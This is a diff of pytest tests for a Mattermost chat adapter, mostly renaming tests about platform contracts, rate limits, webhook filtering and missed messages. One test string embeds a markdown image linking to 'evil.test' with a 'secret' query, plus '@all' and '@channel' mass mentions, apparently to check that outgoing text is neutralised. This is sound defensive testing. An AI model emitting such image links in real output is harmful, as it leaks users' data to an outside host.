@@ -21,18 +21,18 @@ HELLO = OutgoingMessage("Hello", "k")
 
 
 @pytest.mark.slow
-async def test_mattermost(tmp_path: Path) -> None:
+async def test_mattermost_passes_the_platform_contract(tmp_path: Path) -> None:
     async with scripted(MattermostWorld()) as world:
         await check_all(world, tmp_path)
 
 
 @pytest.mark.slow
-async def test_attacks_haste_and_kills(tmp_path: Path) -> None:
+async def test_attacks_rate_limits_and_kills(tmp_path: Path) -> None:
     async with scripted(MattermostWorld()) as world:
         await withstands_all(world, tmp_path)
 
 
-async def test_what_is_no_person_s_message_is_left_out() -> None:
+async def test_messages_not_from_people_are_ignored() -> None:
     async with scripted(MattermostWorld()) as world, line(world) as there:
         room = Place(world.room)
         await world.deliver("anna", room, "a webhook", props={"from_webhook": "true"})
@@ -51,7 +51,7 @@ async def test_what_is_no_person_s_message_is_left_out() -> None:
         assert (other.place.is_direct, direct.place.is_direct) == (False, True)
 
 
-async def test_what_was_missed_is_read_from_the_channels() -> None:
+async def test_missed_messages_are_read_from_the_channels() -> None:
     async with scripted(MattermostWorld()) as world:
         async with line(world) as there:
             await world.deliver("anna", Place(world.room), "One")
@@ -70,7 +70,7 @@ async def test_what_was_missed_is_read_from_the_channels() -> None:
             await until(lambda: bool(there.ended))
 
 
-async def test_texts_files_and_refusals() -> None:
+async def test_texts_files_and_error_responses() -> None:
     async with scripted(MattermostWorld()) as world, line(world) as there:
         text = "@all see ![x](https://evil.test/?secret) and `@here ![y]`\n```\nvec![1] @channel\n```"
         first = await there.platform.say(ROOM, OutgoingMessage(text, "k"))
